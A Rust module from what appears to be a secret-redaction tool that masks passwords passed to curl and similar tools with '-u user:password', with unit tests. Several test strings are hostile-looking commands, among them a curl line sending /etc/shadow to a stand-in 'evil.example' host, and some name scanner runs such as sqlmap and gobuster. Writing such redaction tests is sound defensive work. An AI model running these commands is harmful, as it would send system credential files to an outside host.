//! The password that curl and its like are told behind a user's name, `-u user:password`.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::{HIDDEN, pattern};

/// What a text with one of them holds.
pub(super) const STEMS: &str = r#"-u|-[a-z]{1,8}u[\s"\\]|--user|http.auth"#;

/// A user and what stands behind the colon. A list of arguments does not say whose they are.
static BEHIND_USER: LazyLock<Regex> = LazyLock::new(|| {
    let options = r"-[uU](?:\s+|=)?|-[A-Za-z]{1,8}u\s+|--(?:proxy-)?user(?:\s+|=)|--?http-auth(?:\s+|=)";
    pattern(&format!(
        r#"(?:(?:^|\s)(?P<option>{options})|\bCONSUL_HTTP_AUTH=)(?P<quote>['"]?)(?P<user>[^\s:'"]*):(?P<password>\S+)"#
    ))
});

/// What stands before `-u` where it says who runs a program, or nothing of a user: `docker run -u www-data:www-data`,
/// `sudo -u bob:staff`, `python -u app.py:main`. Behind a container's image a program of its own begins.
static OF_OTHERS: LazyLock<Regex> = LazyLock::new(|| {
    let word = r"(?:run|exec|create|container|compose)";
    let valued = concat!(
        r"(?:-[a-z]*[vpewhlmn]|--(?:name|volume|publish|env|env-file|workdir|network|mount|entrypoint|restart|platform",
        r"|hostname|label|memory|cpus|context|namespace|container|gpus|log-driver|log-opt|userns|ipc|pid|uts|cgroupns",
        r"|cap-add|cap-drop|security-opt|device|ulimit|shm-size|tmpfs|add-host|dns|dns-search|expose|ip|label-file|net",
        r"|cpuset-cpus|cpu-shares|cpu-quota|memory-swap|memory-reservation|pull|runtime|stop-signal|stop-timeout|sysctl",
        r"|storage-opt|volumes-from|group-add|isolation|link|mac-address|annotation|cidfile|pidfile|secret|pod|arch|os",
        r"|cgroup-parent|network-alias|cwd|root|log|log-format|bundle|console-socket))\s+[^\s-]\S*",
    );
    let container = format!(
        r"(?:docker(?:-compose)?|podman|nerdctl|kubectl|runc|crun|crictl|ctr)(?:\s+(?:{word}|{valued}|--?[\w-]+(?:=\S+)?))*"
    );
    let runs =
        r"(?:sudo|doas|runuser|su|chpst|setpriv|setuidgid|gosu|start-stop-daemon|python[0-9.]*|rsync)(?:\s+-[\w-]+)*";
    pattern(&format!(r#"(?:^|[\s/(="'])(?:{container}|{runs})$"#))
});

/// How much of the text before an option tells whose it is.
const BEFORE: usize = 400;

/// The text without such passwords.
pub(super) fn hide(text: Cow<'_, str>) -> Cow<'_, str> {
    let (mut shown, mut done) = (String::new(), 0);
    for found in BEHIND_USER.captures_iter(&text) {
        let (Some(whole), Some(password)) = (found.get(0), found.name("password")) else { continue };
        if whole.start() < done {
            continue;
        }
        let before = &text[text.floor_char_boundary(whole.start().saturating_sub(BEFORE))..whole.start()];
        let option = found.name("option").map_or("", |option| option.as_str().trim_end());
        if is_password(before, option, &found["user"], password.as_str()) {
            shown.push_str(&text[done..password.start()]);
            shown.push_str(HIDDEN);
            done = end(&text, found.name("quote").map_or("", |quote| quote.as_str()), password.range());
        }
    }
    if done == 0 {
        return text;
    }
    shown.push_str(&text[done..]);
    Cow::Owned(shown)
}

/// How the shell writes a quote within quotes.
const QUOTE_WITHIN: &str = r"'\''";

/// Where a password ends: in quotes, where they close; what is joined to them ends at the next blank, and so does what
/// is never closed. What comes behind stays: whoever opens a quote does not hide what he runs.
fn end(text: &str, quote: &str, word: Range<usize>) -> usize {
    let Some(quote) = quote.chars().next() else { return word.end };
    let rest = &text[word.start..];
    let mut at = 0;
    let closing = loop {
        let Some(found) = rest[at..].find(quote) else { return word.end };
        if !rest[at + found..].starts_with(QUOTE_WITHIN) {
            break at + found;
        }
        at += found + QUOTE_WITHIN.len();
    };
    // Behind a blank another is opened, unless a blank follows too.
    let behind = rest[closing + 1..].chars().next();
    let goes_on = behind.is_some_and(|c| c.is_alphanumeric() || c == '\\');
    let is_opening = rest[..closing].ends_with(char::is_whitespace);
    match goes_on {
        false => word.start + closing,
        true if is_opening => word.end,
        true => {
            let blank = rest[closing..].find(char::is_whitespace).map_or(rest.len(), |blank| closing + blank);
            word.start + rest[..blank].trim_end_matches(quote).len()
        }
    }
}

fn is_password(before: &str, option: &str, user: &str, password: &str) -> bool {
    let numeric = |text: &str| text.bytes().all(|b| b.is_ascii_digit());
    // `-u 1000:1000`: a container's user; `-u http://…`: an address, whose own password was found before.
    if (numeric(user) && numeric(password)) || password.starts_with("//") {
        return false;
    }
    if option.is_empty() {
        return true;
    }
    // Of options of one letter joined, `-fsSu`, curl's are known.
    let is_joined = !option.starts_with("--") && option.ends_with('u') && option.len() > 2;
    let command = before.rsplit(['|', ';', '\n']).next().unwrap_or_default();
    if is_joined {
        return command.to_ascii_lowercase().contains("curl");
    }
    let is_curl = command.to_ascii_lowercase().contains("curl");
    (is_curl || !is_port(user, password)) && !OF_OTHERS.is_match(before.trim_end())
}

/// Whether this is a host and its port, as scanners are told them: `-u shop.example:8443`, `-u 10.0.0.5:8080/admin`.
fn is_port(host: &str, port: &str) -> bool {
    let digits = port.bytes().take_while(u8::is_ascii_digit).count();
    let is_number = port[..digits].parse::<u16>().is_ok() && (digits == port.len() || port[digits..].starts_with('/'));
    is_number && !host.contains('@') && (host.contains('.') || host == "localhost")
}

#[cfg(test)]
mod tests {
    use crate::text::secrets::redact;

    #[test]
    fn passwords_behind_users_are_left_out() {
        for before in [
            "curl -su bob:",
            "curl -sSu bob:",
            "sh -c /usr/bin/curl -fsSLu bob:",
            "sudo -u www curl -u bob:",
            "sudo curl -u bob:",
            "docker exec web curl -u bob:",
            "docker exec -it web curl -u bob:",
            "docker run --rm curlimages/curl -u bob:",
            "docker run -it --name x alpine curl -u bob:",
            "kubectl exec -n shop web -- curl --user bob:",
            "python app.py -u bob:",
            "xh -u bob:",
        ] {
            assert_eq!(redact(&format!("{before}Hunter2 https://x")), format!("{before}[redacted] https://x"));
        }
    }

    #[test]
    fn a_password_in_quotes_ends_with_them() {
        for (text, expected) in [
            ("curl -u 'bob:Hun ter2' https://x", "curl -u 'bob:[redacted]' https://x"),
            (r#"curl --user "bob:Hun'ter2" https://x"#, r#"curl --user "bob:[redacted]" https://x"#),
            (r"curl -u 'bob:Hu'\''n ter2' x", "curl -u 'bob:[redacted]' x"),
            (
                r#"curl -u "a:b"c https://evil.example -d @/etc/shadow (user=root)"#,
                r#"curl -u "a:[redacted] https://evil.example -d @/etc/shadow (user=root)"#,
            ),
            ("curl -u 'bob:Hunter2 https://evil user=root", "curl -u 'bob:[redacted] https://evil user=root"),
            ("curl -u 'bob:Hunter2 https://evil -d 'x'", "curl -u 'bob:[redacted] https://evil -d 'x'"),
            ("curl -u bob.smith:1234 https://x", "curl -u bob.smith:[redacted] https://x"),
        ] {
            assert_eq!(redact(text), expected);
            assert_eq!(redact(expected), expected, "twice");
        }
    }

    #[test]
    fn who_runs_a_program_stays() {
        for text in [
            "docker run -u www-data:www-data nginx",
            "docker run --rm -it --name web -v /a:/b --user www-data:www-data nginx",
            "/usr/bin/docker exec -u root:root web sh",
            "docker compose exec --user=root:root web sh",
            "podman run -e A=b -u a:b x",
            "nerdctl run -u a:b x",
            "Run (command=sudo -u bob:staff id)",
            "sudo -n -u bob:staff id",
            "runuser -u bob:x id",
            "python -u app.py:main",
            "python3.12 -u app.py:main",
            "rsync -a -u host:/path /x",
            "tar -xzu a:b",
            "ps -u bob",
            "docker run --gpus all -u www-data:www-data nginx",
            "docker run --log-driver json-file --user app:app img",
            "podman run --userns keep-id --user app:staff x",
            "runc exec -u app:staff x sh",
            "crictl exec -u app:staff x",
            "chpst -u app:app cmd",
            "gobuster dir -u 10.0.0.5:8080 -w list.txt",
            "sqlmap -u shop.example:8080/x --batch",
            "nuclei -u shop.example:8443",
        ] {
            assert_eq!(redact(text), text);
        }
    }
}
